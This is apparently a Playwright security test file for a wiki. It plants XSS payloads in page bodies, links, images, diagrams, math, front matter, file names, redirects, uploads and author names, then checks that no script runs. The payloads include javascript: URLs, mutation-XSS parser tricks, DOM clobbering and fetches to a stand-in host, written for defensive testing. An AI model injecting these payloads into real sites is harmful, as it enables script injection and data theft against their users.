import assert from "node:assert/strict";
import { describe, it } from "node:test";
import type { Page } from "playwright-core";
import { openBrowser } from "../support/browser.ts";
import { commitFiles, type Files } from "../support/git.ts";
import { bo, type Person } from "../support/people.ts";
import { served, signedIn } from "./world.ts";

/** What hostile text tries to do; also an alert, a request elsewhere or a script error would fail the test. */
const trip = "window.__tripped=1";
const beacon = "https://evil.example.org";
const tag = `<img src=x onerror="${trip}"><script>${trip}</script><svg onload="${trip}"></svg>`;
const quote = `" onmouseover="${trip}" autofocus onfocus="${trip}" x="`;

const bodies: Readonly<Record<string, string>> = {
  "raw HTML": `${tag}\n\n<iframe srcdoc="<script>parent.${trip}</script>"></iframe>\n
<object data="javascript:${trip}"></object><embed src="javascript:${trip}">
<form action="javascript:${trip}"><button id=send>send</button></form>
<base href="${beacon}/"><meta http-equiv="refresh" content="0;url=javascript:${trip}">
<link rel="stylesheet" href="${beacon}/a.css"><style>body{background:url(${beacon}/b)}</style>
<p style="background:url(${beacon}/c)">styled</p><video src="${beacon}/d" autoplay></video>
<video poster="${beacon}/e"></video><input type=image src="${beacon}/f"><body onload="${trip}">
<table background="${beacon}/g"><tr><td>t</table><picture><source srcset="${beacon}/h"><img></picture>`,
  "markup that parsers disagree about": [
    `<svg><style><img src=x onerror="${trip}"></style></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${trip}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${trip}">`,
    `<noscript><p title="</noscript><img src=x onerror=${trip}>">`,
    `<select><template><img src=x onerror="${trip}"></template></select>`,
    `<svg><a xlink:href="javascript:${trip}"><text>t</text></a><use href="data:image/svg+xml,x"/></svg>`,
    `<svg><animate onbegin="${trip}" attributeName=x dur=1s></svg>`,
    `<details open ontoggle="${trip}"><summary>s</summary></details>`,
    `<xmp><img src=x onerror="${trip}"></xmp><plaintext>`,
  ].join("\n\n"),
  "names that clobber the document": `<a id="body" name="body">x</a><img name="cookie"><form id="documentElement">
<input name="attributes"><input name="parentNode"></form><a id="wiki-search">x</a><img name="querySelector"><a id="forms">y</a>`,
  headings: `# ${tag}\n\n[[_TOC_]]\n\n## <img src=x onerror="${trip}"> two\n\n## [x](javascript:${trip})\n\n## ${quote}\n\n## \`${tag}\``,
  links: [
    ...[
      `javascript:${trip}`,
      `JaVaScRiPt&#58;${trip}`,
      `java\tscript:${trip}`,
      `\u0001javascript:${trip}`,
    ],
    ...[`vbscript:${trip}`, `data:text/html,<script>${trip}</script>`, `//evil.example.org/x`],
    ...[`Page${quote}`, `blob:x`, `filesystem:x`, `view-source:x`],
  ]
    .flatMap((target) => [
      `[link](<${target}>)`,
      `<a href="${target.replaceAll('"', "&quot;")}">raw</a>`,
    ])
    .concat(`[[${tag}]]`, `[[text${quote}|Page]]`, `[[Page|${tag}]]`, `<javascript:${trip}>`)
    .join("\n\n"),
  pictures: [
    `![${quote}](x.png)`,
    `![x](x.png "${tag.replaceAll('"', "'")}")`,
    `![x](javascript:${trip})`,
    `![x](${beacon}/pixel.png)`,
    `![x](data:image/svg+xml,<svg onload='${trip}'/>)`,
    `[[x.png|alt=${quote}|width=1${quote}]]`,
    `<img src="x.png" srcset="${beacon}/i 2x" onerror="${trip}">`,
  ].join("\n\n"),
  code: [
    `\`\`\`${tag}\n${tag}\n\`\`\``,
    `\`\`\`js${quote}\n${tag}\n\`\`\``,
    `\`\`\`"><script>${trip}</script>\nx\n\`\`\``,
    `    ${tag}`,
    `\`\`\`html\n${tag}\n\`\`\``,
  ].join("\n\n"),
  diagrams: `\`\`\`mermaid\nflowchart LR\n  A["<img src=x onerror='${trip}'>"] --> B\n  click A "javascript:${trip}"\n\`\`\`
\n\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "x{background:url(${beacon}/m)}"}}%%\nflowchart LR\n  A["<script>${trip}</script>"]\n  click A call alert("x")\n\`\`\`\n`,
  mathematics: `$\\href{javascript:${trip}}{x}$ $\\url{javascript:${trip}}$ $\\htmlData{x=${quote}}{y}$ $\\includegraphics{${beacon}/k}$\n\n$$\\text{${tag}}$$`,
  "notes, tables, alerts": `x[^${tag}]\n\n[^${tag}]: ${tag}\n\n| ${tag} |\n| --- |\n| ${tag} |\n\n> [!NOTE]\n> ${tag}\n\n- [ ] ${tag}`,
  "front matter": `---\ntitle: '${tag}'\nlang: '${quote}'\ndescription: '${tag}'\nlicense: 'javascript:${trip}'\nkind: '${tag}'\ntags: ['${tag}', {'${tag}': 1}]\n---\n${tag}\n`,
  "front matter that does not parse": `---\ntitle: ${tag}\n bad: [${tag}\n---\ntext\n`,
};

/** A file name cannot hold a slash, so these trip without a closing tag. */
const fileName = `x<img src=x onerror=${trip}>"y'&`;
const files: Files = {
  ...Object.fromEntries(Object.entries(bodies).map(([name, body]) => [`${name}.md`, body])),
  Home: `# Home\n\n[[${fileName}]]\n`,
  [`${fileName}.md`]: `${tag}\n`,
  [`${fileName}/${fileName}.md`]: `# ${fileName}\n`,
  _Sidebar: `${tag}\n\n[x](javascript:${trip})\n\n[[${tag}]]\n`,
  _Footer: tag,
  [`uploads/${"0".repeat(32)}/page.html`]: `<script>${trip};fetch("${beacon}")</script>`,
  [`uploads/${"0".repeat(32)}/picture.svg`]: `<svg xmlns="http://www.w3.org/2000/svg" onload="${trip}"><script>${trip}</script></svg>`,
  [`uploads/${"0".repeat(32)}/page.xml`]: `<html xmlns="http://www.w3.org/1999/xhtml"><script>${trip}</script></html>`,
  [`uploads/${"0".repeat(32)}/picture.png`]: `<html><script>${trip}</script></html>`,
  ".gitlab/redirects.yml": `Old: "javascript:${trip}"\n"Older": "//evil.example.org/x"\n"${tag.replaceAll('"', "'")}": Home\n`,
};

// Mermaid tries its labels as HTML, in a frame that is shut off from the wiki and lets nothing of them run.
const watched = {
  tolerated: /inline event handler .* has been blocked\. \(.+\/-\/assets\/mermaid-/,
} as const;

describe("hostile text", () => {
  for (const name of Object.keys(bodies)) {
    it(`does nothing in a page's ${name}`, async (t) => {
      const world = await served(t, {}, files);
      const page = await openBrowser(t, { url: world.url, ...watched });
      const answer = await page.goto(`/${encodeURIComponent(name)}`);
      assert.equal(answer?.status(), 200);
      await expectCalm(page);
    });
  }

  it("does nothing in file names, lists, the sidebar and redirects", async (t) => {
    const world = await served(t, {}, files);
    const page = await openBrowser(t, { url: world.url });
    const slug = encodeURIComponent(fileName);
    const query = encodeURIComponent(`"><script>${trip}</script>`);
    const addresses = ["/", `/${slug}`, `/${slug}/${slug}`, "/Old", "/Older", "/-/pages"];
    const asked = [
      `/-/pages?q=${query}`,
      `/-/pages?folder=${slug}`,
      `/${query}`,
      `/-/search?q=${query}`,
    ];
    const signIn = [`/-/sign-in?return=${query}`, "/-/sign-in?return=javascript:alert(1)"];
    for (const address of [...addresses, ...asked, ...signIn]) {
      await page.goto(address);
      await expectCalm(page);
      assert.equal(new URL(page.url()).origin, world.url, `${address} led away`);
    }
  });

  it("does nothing in the name and the summary of who wrote it", async (t) => {
    const world = await served(t, {}, files);
    const parent = await commitFiles(world.repository, { Home: "# Changed\n" }, tag);
    await world.wiki.refresh();
    const page = await openBrowser(t, { url: world.url });
    for (const address of ["/Home", "/-/history/Home", "/-/changes", `/Home?at=${parent}`]) {
      await page.goto(address);
      await expectCalm(page);
    }
  });

  it("does nothing in what the wiki serves as files", async (t) => {
    const world = await served(t, {}, files);
    const page = await openBrowser(t, { url: world.url });
    for (const name of ["page.html", "picture.svg", "page.xml", "picture.png"]) {
      const address = `/uploads/${"0".repeat(32)}/${name}`;
      const answer = await page.request.get(address);
      assert.equal(answer.headers()["x-content-type-options"], "nosniff");
      const opened = await page.goto(address).catch(() => "a download");
      if (opened === "a download") continue;
      await expectCalm(page);
    }
  });

  it("does nothing in the editor, its preview and its drafts", async (t) => {
    const world = await served(t, {}, files);
    const page = await signedIn(t, world, watched);
    for (const slug of ["raw HTML", "links", "code", "diagrams", "front matter", fileName]) {
      await page.goto(`/-/edit/${encodeURIComponent(slug)}`);
      await page.getByRole("region", { name: "Preview" }).waitFor();
      await page.waitForLoadState("networkidle");
      await expectCalm(page);
    }
    for (const screen of ["rename", "delete"]) {
      await page.goto(`/-/${screen}/${encodeURIComponent(fileName)}`);
      await expectCalm(page);
    }
    const quoted = encodeURIComponent(`"><script>${trip}</script>`);
    await page.goto(`/-/new?title=${quoted}&folder=${quoted}&template=${quoted}`);
    await expectCalm(page);
  });

  it("does nothing where two hostile texts clash", async (t) => {
    const world = await served(t, {}, files);
    const page = await signedIn(t, world, { scripts: false });
    const watcher = await signedIn(t, world, {}, hostileBo);
    await page.goto("/-/edit/Home");
    await watcher.goto("/-/edit/Home");
    await commitFiles(world.repository, { Home: `# ${tag}\n` }, tag);
    await world.wiki.refresh();
    await page.fill("[name=content]", `${tag}\n${quote}\n`);
    await page.fill("[name=summary]", tag.slice(0, 150));
    await page.click("#wiki-edit-form button.primary");
    await page.locator("#wiki-whole-theirs").waitFor({ state: "attached" });

    await watcher.getByRole("textbox", { name: "Text", exact: true }).click();
    await watcher.keyboard.press("Control+a");
    await watcher.keyboard.insertText(`${quote}\n${tag}\n`);
    await watcher.keyboard.press("Control+s");
    await watcher.locator("#wiki-whole-theirs").waitFor({ state: "attached" });
    await expectCalm(watcher);
  });
});

/** As far as a public name may go. */
const hostileBo: Person = { ...bo, name: `Bo " onclick=${trip} '` };

/** Nothing has run, and nothing runs when everything on the page is touched. The browser's own watch sees the rest. */
async function expectCalm(page: Page): Promise<void> {
  await page.waitForLoadState("load");
  await page.locator("pre.mermaid").first().waitFor({ state: "detached" });
  for (const frame of page.frames())
    assert.equal(await frame.evaluate("'__tripped' in window"), false, `in ${frame.url()}`);
  const found = await page.evaluate(() => {
    for (const element of document.querySelectorAll<HTMLElement>("main *, nav *")) {
      for (const type of ["mouseover", "focus", "toggle", "error", "load"])
        element.dispatchEvent(new Event(type));
      if (element instanceof HTMLDetailsElement) element.open = true;
    }
    const handlers = [...document.querySelectorAll("*")].flatMap((element) =>
      [...element.attributes].filter(({ name }) => /^on/i.test(name)).map(({ name }) => name),
    );
    const targets = [
      ...document.querySelectorAll("[href], [src], [action], [formaction], [srcset]"),
    ]
      .flatMap((element) => [...element.attributes].map(({ value }) => value))
      .filter((value) => /^\W*(java|vb)script:/i.test(value));
    return { handlers, targets, tripped: "__tripped" in window };
  });
  assert.deepEqual(found, { handlers: [], targets: [], tripped: false }, page.url());
  assert.equal(await page.locator("main").count(), 1, "the frame is whole");
}
